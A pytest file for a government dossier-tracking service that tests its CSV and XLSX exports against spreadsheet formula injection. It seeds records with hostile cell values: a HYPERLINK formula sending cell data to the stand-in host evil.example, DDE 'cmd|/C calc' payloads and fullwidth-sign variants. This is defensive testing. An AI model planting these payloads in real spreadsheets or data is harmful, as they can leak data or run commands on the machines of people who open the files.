"""V1: no spreadsheet or CSV the service writes holds a live formula from outside text.

A dossier, procedure and agency whose codes and names start with each formula trigger are
exported through every writer: the dashboard's work-list workbooks, the period report as CSV
and XLSX over the API, and `tthc report --csv/--xlsx`. Every cell must be inert: no formula
cell, no text starting with a trigger; the hostile text is still there, quoted.
"""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from app.auth.service import create_token
from app.cli import app as cli_app
from app.core.spreadsheet import FORMULA_STARTS, csv_text, is_formula_like, neutralise
from app.db.session import session_scope
from app.deadlines.store.sync import refresh_deadlines
from tests.dashboard.helpers import login
from tests.factories import add_event, make_agency, make_dossier, make_procedure

PROJECT = Path(__file__).resolve().parents[2]
CODE = '=HYPERLINK("http://evil.example/?"&A1,"Mở")'
PROCEDURE_CODE = "+1+cmd|'/C calc'!A0"
PROCEDURE_NAME = "-2+3+cmd|' /C calc'!A0"
AGENCY_CODE = "@SUM(1+1)*cmd"
AGENCY_NAME = "\uff1dHYPERLINK(\"http://evil.example\")"
HOSTILE = (CODE, PROCEDURE_CODE, PROCEDURE_NAME, AGENCY_CODE, AGENCY_NAME)


@pytest.mark.parametrize("text", [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", "\uff1d1+1", "\uff0b1",
    "\uff0d1", "\uff20SUM(A1)", "  =1+1", "\u00a0=1+1",
])
def test_every_formula_trigger_is_quoted(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text
    assert not is_formula_like(neutralise(text))


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "000.00.12.H36-260302-0091", "", "a=b",
                                   12, -3.5, None, True])
def test_ordinary_values_are_written_as_they_are(value: Any) -> None:
    assert neutralise(value) == value


def test_csv_quotes_every_cell_that_could_run() -> None:
    text = csv_text([["=1+1", "ok", -2], ["a,b", '@x"y']])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["'=1+1", "ok", "-2"], ["a,b", "'@x\"y"]]


def _seed(session: Session, now: datetime) -> None:
    agency = make_agency(session, AGENCY_CODE, AGENCY_NAME)
    procedure = make_procedure(session, PROCEDURE_CODE, "1", "working_days")
    procedure.name = PROCEDURE_NAME
    received = now - timedelta(days=20)
    dossier = make_dossier(session, CODE, agency, procedure, received)
    add_event(session, dossier, received, 2, "Tiếp nhận")
    refresh_deadlines(session, [dossier], now)


def _assert_inert_xlsx(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))  # not read-only: data_type tells formulas apart
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    assert not is_formula_like(cell.value), (cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


def _assert_inert_csv(text: str) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    for cell in cells:
        assert not (cell and cell[0] in FORMULA_STARTS), cell
        assert not is_formula_like(cell), cell
    return cells


def _quoted(texts: list[str], *expected: str) -> None:
    for value in expected:
        assert any(t.strip() == "'" + value or t.strip() == "'" + value.strip() for t in texts), (
            f"{value!r} missing from the export")


@pytest.mark.parametrize("path", ["/giam-sat/qua-han.xlsx"])
def test_the_work_list_workbook_has_no_formula(
    app: Any, db_session: Session, path: str
) -> None:
    now = datetime.now(UTC)
    _seed(db_session, now)
    token = create_token(db_session, name="t", role="admin", agency=None, now=now)
    db_session.commit()
    with TestClient(app, base_url="https://testserver") as web:
        login(web, token.secret)
        response = web.get(path)
    assert response.status_code == 200, response.text[:300]
    _quoted(_assert_inert_xlsx(response.content), *HOSTILE)


@pytest.mark.parametrize("group_by", ["agency", "procedure"])
def test_the_period_report_csv_and_xlsx_have_no_formula(
    client: TestClient, db_session: Session, auth_headers: Any, group_by: str
) -> None:
    now = datetime.now(UTC)
    _seed(db_session, now)
    headers = auth_headers("admin")
    start, end = (now - timedelta(days=40)).date(), (now + timedelta(days=2)).date()
    params = {"from": str(start), "to": str(end), "group_by": group_by}
    as_csv = client.get("/api/v1/reports/period", params={**params, "format": "csv"},
                        headers=headers)
    as_xlsx = client.get("/api/v1/reports/period", params={**params, "format": "xlsx"},
                         headers=headers)
    assert as_csv.status_code == as_xlsx.status_code == 200, as_csv.text[:300]
    expected = (AGENCY_CODE, AGENCY_NAME) if group_by == "agency" else (
        PROCEDURE_CODE, PROCEDURE_NAME)
    _quoted(_assert_inert_csv(as_csv.text), *expected)
    _quoted(_assert_inert_xlsx(as_xlsx.content), *expected)


def test_the_cli_report_files_have_no_formula(cli_database: str, tmp_path: Path) -> None:
    now = datetime.now(UTC)
    with session_scope() as session:
        _seed(session, now)
    start, end = (now - timedelta(days=40)).date(), (now + timedelta(days=2)).date()
    target_csv, target_xlsx = tmp_path / "r.csv", tmp_path / "r.xlsx"
    result = CliRunner().invoke(cli_app, [
        "report", "--from", str(start), "--to", str(end), "--group-by", "agency",
        "--csv", str(target_csv), "--xlsx", str(target_xlsx)])
    assert result.exit_code == 0, result.output
    _quoted(_assert_inert_csv(target_csv.read_text(encoding="utf-8")), AGENCY_NAME)
    _quoted(_assert_inert_xlsx(target_xlsx.read_bytes()), AGENCY_NAME)


def test_only_the_one_place_creates_workbooks_and_csv_writers() -> None:
    """A new writer that builds its own workbook or CSV writer would skip neutralising."""
    offenders = []
    for path in sorted(PROJECT.joinpath("app").rglob("*.py")):
        rel = path.relative_to(PROJECT).as_posix()
        if rel == "app/core/spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                name = getattr(node.func, "attr", getattr(node.func, "id", ""))
                if name in {"Workbook", "writer", "DictWriter", "writerow", "writerows"}:
                    offenders.append(f"{rel}:{node.lineno}: {ast.unparse(node)[:60]}")
                receiver = getattr(node.func, "value", None)
                if name == "append" and getattr(receiver, "id", "") in {"sheet", "ws",
                                                                         "worksheet"}:
                    offenders.append(f"{rel}:{node.lineno}: {ast.unparse(node)[:60]}")
    assert not offenders, "write spreadsheets through app/core/spreadsheet.py:\n" + "\n".join(
        offenders)
